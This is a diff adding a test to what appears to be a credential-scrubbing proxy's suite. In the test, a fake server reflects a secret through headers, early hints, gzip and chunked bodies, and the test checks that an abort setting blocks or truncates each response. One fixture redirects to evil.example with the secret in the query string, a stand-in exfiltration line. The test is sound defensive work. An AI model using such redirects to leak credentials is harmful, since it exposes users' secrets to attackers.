@@ -323,6 +323,58 @@ for i in range(5):
     equal(out, "".join(f'data: {{"n": {i}, "text": "{"*" * len(secret)}"}}\n' for i in range(5)), "five events, each seen before the next was sent")
 
 
+def answers_that_show_it_can_be_stopped(world):
+    """PX-20, `run.reflection abort`: refused where nothing of the answer has gone, else cut off where the secret begins."""
+    server = Reflector(world)
+    chunk = lambda piece: b"%x\r\n%s\r\n" % (len(piece), piece)
+    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
+    chunked = head + b"Transfer-Encoding: chunked\r\n\r\n"
+
+    def answer(pieces):
+        def send(tls, secret, parts):
+            for i, piece in enumerate(pieces(secret)):
+                if i > 0:
+                    time.sleep(0.5)  # so that the one before has gone
+                tls.sendall(piece)
+            return True
+        return send
+    gzipped = lambda secret: gzip.compress(b"you said " + secret + b"\n")
+    server.special = {
+        "fine": answer(lambda secret: [head + b"Content-Length: 4\r\n\r\nfine"]),
+        "field": answer(lambda secret: [b"HTTP/1.1 302 Found\r\nLocation: https://evil.example/?t=" + urllib.parse.quote(secret, safe="").encode() + b"\r\nContent-Length: 4\r\n\r\ngone"]),
+        "hint": answer(lambda secret: [b"HTTP/1.1 103 Early Hints\r\nLink: </" + secret.hex().encode() + b">\r\n\r\n", head + b"Content-Length: 4\r\n\r\nfine"]),
+        "body": answer(lambda secret: [head + b"Content-Length: %d\r\n\r\nyou said %s\n" % (10 + len(secret), secret)]),
+        "coded": answer(lambda secret: [head + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(gzipped(secret)) + gzipped(secret)]),
+        "late": answer(lambda secret: [chunked + chunk(b"a line\n"), chunk(b"you said " + base64.b64encode(secret) + b" and so on\n") + b"0\r\n\r\n"]),
+        "trailer": answer(lambda secret: [chunked + chunk(b"a line\n"), b"0\r\nX-Said: " + secret + b"\r\n\r\n"]),
+    }
+    connect(world, server)
+    refused = world.run("config", "set", "run.reflection", "maybe", code=None)
+    check(refused.returncode != 0 and "abort" in refused.stderr, refused.stderr)
+    world.run("config", "set", "run.reflection", "abort")
+    script = "for path in fine field hint body coded late trailer fine; do curl -sSi -H 'TE: trailers' \"$0/$path\"; echo \"#exit $?\"; done"
+    shown = world.run("run", "--", "sh", "-c", script, f"https://127.0.0.1:{server.port}").stdout
+    answers = [text.rpartition("200 Connection Established")[2] for text in re.split(r"#exit \d+\n", shown)[:-1]]
+    codes = [int(code) for code in re.findall(r"#exit (\d+)\n", shown)]
+    for i in (0, 7):
+        check(answers[i].endswith("fine") and " 200 OK" in answers[i] and codes[i] == 0, f"what shows nothing passes: {answers[i]}")
+    for i, what in ((1, "a field"), (2, "an interim answer"), (3, "a body"), (4, "a coded body")):
+        contains(answers[i], "HTTP/1.1 502 Bad Gateway", what)
+        contains(answers[i], "Claviger-Reason: reflected_credential", what)
+        check("you said" not in answers[i] and "evil.example" not in answers[i] and codes[i] == 0, f"nothing else of {what}: {answers[i]}")
+    for i, what in ((5, "a body"), (6, "trailers")):
+        contains(answers[i], " 200 OK", f"{what}, later")
+        contains(answers[i], "a line\n", f"{what}: what came before has gone")
+        check(codes[i] != 0, f"{what}: the end looks like none")
+    check("you said" not in answers[5].replace("you said ", "", 1) and "and so on" not in answers[5], f"nothing behind it: {answers[5]}")
+    check("***" not in "".join(answers[3:]), f"nothing is overwritten, it is left out: {shown}")
+    lines = [line for line in map(json.loads, world.run("log", "--json").stdout.splitlines()) if line["kind"] == "request"]
+    equal([(line["status"], line["reason"], line["scrubbed"] > 0) for line in lines],
+          [(200, None, False), *[(502, "reflected_credential", True)] * 4, *[(200, "reflected_credential", True)] * 2, (200, None, False)], "the log")
+    world.run("config", "unset", "run.reflection")
+    contains(world.run("run", "--", "curl", "-sS", f"https://127.0.0.1:{server.port}/body").stdout, "you said ***", "without it they are overwritten")
+
+
 def nothing_else_changes(world):
     """Bodies of any bytes come as they are, also where a read ends within what might be a secret."""
     server = Reflector(world)
@@ -369,5 +421,5 @@ def what_the_program_sends_along(world):
 
 
 if __name__ == "__main__":
-    main(every_spelling_place_and_cut, curl_sees_none_either, the_fields_of_an_answer, coded_bodies, a_stream_goes_on_at_once, nothing_else_changes,
+    main(every_spelling_place_and_cut, curl_sees_none_either, the_fields_of_an_answer, coded_bodies, a_stream_goes_on_at_once, answers_that_show_it_can_be_stopped, nothing_else_changes,
          what_the_program_sends_along)
